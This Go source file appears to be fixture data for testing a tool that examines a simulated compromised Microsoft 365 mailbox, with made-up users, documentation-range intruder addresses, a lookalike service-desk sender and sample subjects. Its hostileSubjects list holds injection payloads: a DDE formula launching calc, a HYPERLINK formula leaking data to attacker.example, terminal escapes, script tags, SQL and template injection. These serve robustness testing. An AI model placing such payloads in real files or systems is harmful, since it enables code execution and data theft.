package simtenant

import "time"

// The mailboxes of the tenant.
const (
	// Owner is the compromised user, whom the tokens belong to.
	Owner = "adele.vance@contoso.example"
	// Apostrophe has an apostrophe in the name.
	Apostrophe = "o'neil@contoso.example"
	// Quiet has no activities.
	Quiet = "quiet@contoso.example"
	// Locked is a mailbox to which nobody here has rights.
	Locked = "locked@contoso.example"
)

// Addresses, all of the ranges that RFC 5737 and RFC 3849 keep for documentation.
const (
	officeAddress = "192.0.2.25"
	homeAddress   = "198.51.100.44"
	homeAddress6  = "2001:db8:4:17::21"
	phoneAddress  = "198.51.100.130"

	intruderFirst  = "203.0.113.77" // 29 May, and again from 4 June
	intruderSync   = "203.0.113.201"
	intruderSecond = "2001:db8:bad:1::5" // 1 June
)

const (
	agentOutlook = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.9126; Pro)"
	agentPhone   = "Outlook-iOS/689.3588701.prod.iphone (2.80.0)"
	agentChrome  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.181 Safari/537.36"
	agentFirefox = "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0"
)

// firstDay is a Monday; the story has three weeks.
var firstDay = time.Date(2018, time.May, 21, 0, 0, 0, 0, time.UTC)

// arrivals is when the first activity of an empty mailbox arrives.
var arrivals = time.Date(2018, time.June, 11, 8, 0, 0, 0, time.UTC)

type person struct{ name, address string }

var (
	colleagues = []person{
		{"Megan Bowen", "megan.bowen@contoso.example"},
		{"Isaiah Langer", "isaiah.langer@contoso.example"},
		{"Zoë Ångström", "zoe.angstrom@contoso.example"},
		{"Patrick O'Brien", "patrick.o'brien@contoso.example"},
		{"Lee Gu, Accounts", "lee.gu@contoso.example"},
		{"山田 太郎", "taro.yamada@fabrikam.example"},
		{"Fabrikam Billing", "billing@fabrikam.example"},
		{"Nestor \"Nes\" Wilke", "nestor.wilke@fabrikam.example"},
		{"News at Contoso", "no-reply@news.contoso.example"},
	}
	supplier = person{"Fabrikam Billing", "billing@fabrikam.example"}
	lure     = person{"IT Service Desk", "servicedesk@c0ntoso.example"}
)

var subjects = []string{
	"Weekly report", "Agenda for Thursday", "RE: Budget 2018/19", "Lunch?", "Minutes of the meeting",
	"FW: Travel to Århus", "Offer, second version; please check", "O'Brien, W-9; 2017", "Re: \"Project Æther\"",
	"会議の議事録", "Vertrag für Müller & Söhne", "Holiday plans", "Printer on floor 3", "Новости недели",
	"Your order has been shipped", "Password policy reminder", "Team photo 📷", "Timesheets due",
}

var invoiceSubjects = []string{
	"Invoice 4711 from Fabrikam", "Invoice 4728, due 15 June", "RE: Invoice 4711 from Fabrikam",
	"Invoice overdue; second notice", "Payment of invoice \"4690\"",
}

// hostileSubjects are mail that attacks whoever displays or exports it: real
// mailboxes hold such things.
var hostileSubjects = []string{
	"=cmd|' /C calc'!A0",
	"=HYPERLINK(\"https://attacker.example/?x=\"&A1,\"Open\")",
	"+1 555 0100, call me", "-2+3", "@SUM(1,1)", "\tTab first", "two\r\nlines",
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred", "bell\a and \u009b31m C1",
	"photo\u202Egnp.exe", "\u2067isolated\u2069 and zero\u200bwidth \ufeff mark",
	"<script>alert(1)</script><img src=x onerror=alert(2)>", "'; DROP TABLE mail; --", "{{constructor.constructor('x')()}}",
	"{'Sid': 'x', \"Query\": None}", "back\\slash \\u0041 \\", "a\x00b", "e\u0301\u0301\u0301\u0301 combining",
}
